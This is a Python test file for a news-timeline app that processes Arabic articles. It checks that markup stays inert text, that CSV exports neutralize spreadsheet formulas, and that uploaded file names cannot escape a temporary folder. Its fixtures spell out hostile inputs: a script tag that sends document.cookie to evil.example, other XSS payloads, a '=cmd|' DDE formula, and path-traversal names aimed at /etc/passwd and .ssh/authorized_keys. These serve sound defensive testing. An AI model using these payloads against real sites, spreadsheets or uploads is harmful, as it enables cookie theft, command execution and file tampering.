"""Article text never acts as code: markup stays text in the store and in every export, CSV cells
that a spreadsheet would run are neutralized, JSON lines hold plain strings, and uploaded file names
cannot write outside the app's own temporary folder.

The browser side (hover labels, details panel, table, lane names: no script runs) is covered by
tests/browser/test_e2e.py::test_article_html_is_shown_as_text_never_run.
"""
from __future__ import annotations

import codecs
import csv
import io
import json
import os
import tempfile
import unicodedata
from pathlib import Path

import pandas as pd
import pytest

from timeline import pipeline
from timeline.exports import neutralize, to_csv_bytes, to_jsonl_bytes, to_parquet_bytes
from timeline.store import Store

from conftest import run_cli

IMG = '<img src=x onerror="alert(document.cookie)">'
LINK = '<a href="javascript:alert(1)">اضغط هنا</a>'
SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
FORMULAS = ["=HYPERLINK(\"https://evil.example\",\"انقر\")", "+1+1", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠SUM(A1)",
            " ＝cmd", "\u200f=1+1", "\u2067=1+1\u2069", "\u00a0=1", "\u200b@x", "\n=1", "﹦1"]

HOSTILE = (f"{SCRIPT}عنوان الخبر\n"
           "تاريخ النشر: 2023-09-12\n"
           f"قال الرئيس فلاديمير بوتين يوم الاثنين {IMG} إن روسيا ستوقع الاتفاق في 15 أيلول 2023.\n"
           f"وأعلن وزير الخارجية سيرغي لافروف أمس {LINK} أن المفاوضات ستستمر.\n"
           + "".join(f"{f} قال المتحدث باسم الكرملين دميتري بيسكوف في {d} أيلول 2023 إن الرئيس سيزور الصين.\n"
                     for d, f in enumerate(FORMULAS, 1)))


def read_csv(data: bytes) -> list[dict]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


INVISIBLE = "".join(chr(c) for c in range(0x110000) if chr(c).isspace() or unicodedata.category(chr(c)) == "Cf")


def cell_is_inert(value: str) -> bool:
    """What a spreadsheet sees at the start of the cell is not an operator (or the cell is quoted)."""
    if value.startswith("'"):
        return True
    if value[:1] in ("\t", "\r"):
        return False
    visible = value.lstrip(INVISIBLE)
    return unicodedata.normalize("NFKC", visible[:1])[:1] not in ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("inject")
    article = tmp / "hostile.txt"
    article.write_text(HOSTILE, encoding="utf-8")
    db = tmp / "store.duckdb"
    done = run_cli("extract", str(article), "--db", str(db), "--no-output", "--quiet", "--workers", "1")
    assert done.returncode == 0, done.stderr.decode()
    return tmp, db


def test_markup_is_stored_as_text(hostile_store):
    _, db = hostile_store
    with Store(db, read_only=True) as store:
        docs = store.documents_frame(include_text=True)
        events = store.events_frame()
    (text,) = docs["text"]
    for payload in (IMG, LINK):
        assert payload in text
    assert SCRIPT in docs["title"][0] or SCRIPT in text
    descriptions = " ".join(events["sentence"])
    assert IMG in descriptions and LINK in descriptions, descriptions


def test_cli_csv_export_neutralizes_every_formula_cell(hostile_store):
    tmp, db = hostile_store
    out = tmp / "events.csv"
    done = run_cli("events", "--db", str(db), "--format", "csv", "--output", str(out))
    assert done.returncode == 0, done.stderr.decode()
    rows = read_csv(out.read_bytes())
    assert rows
    starts = 0
    for row in rows:
        for value in row.values():
            assert cell_is_inert(value), repr(value)
            starts += value.startswith("'")
    # the article's formula lines did reach the export (and were neutralized there)
    joined = "\n".join(v for row in rows for v in row.values())
    for formula in ("=HYPERLINK", "@SUM(A1:A9)", "＝1+1", "\u200f=1+1"):
        assert formula in joined, formula
    assert starts >= 4
    assert IMG in joined and LINK in joined           # markup is text in CSV too
    # the actors list of the CLI's CSV is ' | '-joined text, never a formula
    actors = read_csv(run_cli("actors", "--db", str(db), "--format", "csv").stdout)
    assert all(cell_is_inert(v) for row in actors for v in row.values())


def test_cli_jsonl_export_holds_plain_strings(hostile_store):
    _, db = hostile_store
    done = run_cli("events", "--db", str(db), "--format", "jsonl")
    assert done.returncode == 0
    rows = [json.loads(line) for line in done.stdout.decode("utf-8").splitlines()]
    with Store(db, read_only=True) as store:
        stored = {r["event_id"]: r for r in store.events_frame().to_dict("records")}
    for row in rows:
        for key in ("description", "sentence", "title"):
            assert isinstance(row[key], str)
            assert row[key] == stored[row["event_id"]][key]      # not escaped, not rewritten
    assert any(IMG in r["sentence"] for r in rows)
    assert any(r["description"].startswith("=HYPERLINK") or "=HYPERLINK" in r["sentence"] for r in rows)


@pytest.mark.parametrize("cell", FORMULAS + ["\tplain", "\rplain", "-", "=", "@", "＝"])
def test_csv_neutralizes_formula_starts_and_look_alikes(cell):
    frame = pd.DataFrame({"description": [cell], "actors": [[cell, "بوتين"]], cell: ["x"]})
    (row,) = read_csv(to_csv_bytes(frame))
    assert row["description"] == "'" + cell
    assert row["actors"] == "'" + cell + " | بوتين"
    assert "'" + cell in row                           # a header cell too


@pytest.mark.parametrize("cell", ["بوتين", "a=b", "e-mail", "2023-09-12", "'quoted", "1 + 1", "٣-٢",
                                  "\u200fبوتين", " نص"])
def test_csv_leaves_text_alone(cell):
    (row,) = read_csv(to_csv_bytes(pd.DataFrame({"c": [cell]})))
    assert row["c"] == cell


def test_jsonl_and_parquet_keep_markup_and_formulas_verbatim():
    cells = [IMG, LINK, SCRIPT, *FORMULAS]
    frame = pd.DataFrame({"description": cells, "actors": [[c] for c in cells]})
    lines = to_jsonl_bytes(frame).decode("utf-8").splitlines()
    assert [json.loads(line)["description"] for line in lines] == cells
    assert [json.loads(line)["actors"] for line in lines] == [[c] for c in cells]
    import pyarrow.parquet as pq
    back = pq.read_table(io.BytesIO(to_parquet_bytes(frame))).to_pandas()
    assert list(back["description"]) == cells


# --- uploaded file names ------------------------------------------------------------------------------

HOSTILE_NAMES = ["../../etc/passwd", "..\\..\\x.txt", "/etc/passwd", "/tmp/evil.txt", "C:\\Windows\\evil.txt",
                 "a\x00b.txt", "\x00", "..", ".", "", "....", ".bashrc", "../.ssh/authorized_keys",
                 "nested/dir/name.txt", "~/x.txt", "x" * 500 + ".txt", "\u202eevil\u202dtxt.exe",
                 "con.txt", "خبر عاجل.txt", "a/../../../b.jsonl", "%2e%2e%2fetc%2fpasswd"]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_safe_file_name_stays_in_its_folder(name, tmp_path):
    safe = pipeline.safe_file_name(name)
    assert safe and "/" not in safe and "\\" not in safe and "\x00" not in safe
    assert not safe.startswith(".") and len(safe) <= 120
    target = (tmp_path / safe).resolve()
    assert target.parent == tmp_path.resolve()


def test_extract_uploads_writes_only_in_a_private_temporary_folder(tmp_path, monkeypatch):
    sandbox = tmp_path / "tmp"
    sandbox.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(sandbox))
    outside = tmp_path / "outside"
    outside.mkdir()
    before = {p for p in tmp_path.rglob("*")}
    article = "تاريخ النشر: 2023-09-12\nقال الرئيس فلاديمير بوتين يوم الاثنين إن روسيا ستوقع الاتفاق.".encode()
    names = [str(outside / "planted.txt"), "../../outside/planted.txt", "..\\..\\outside\\x.txt",
             "a\x00.txt", "..", "/etc/passwd", "same.txt", "same.txt"]
    results, errors = pipeline.extract_uploads([(n, article) for n in names])
    assert not errors, errors
    assert len(results) == len(names)
    # every result names the file as the user called it, nothing else was created anywhere
    assert [r.document.path for r in results] == names
    assert {p for p in tmp_path.rglob("*")} == before, "files left behind or written outside"
    assert not list(outside.iterdir())
    assert os.path.exists("/etc/passwd") and Path("/etc/passwd").read_bytes() != article
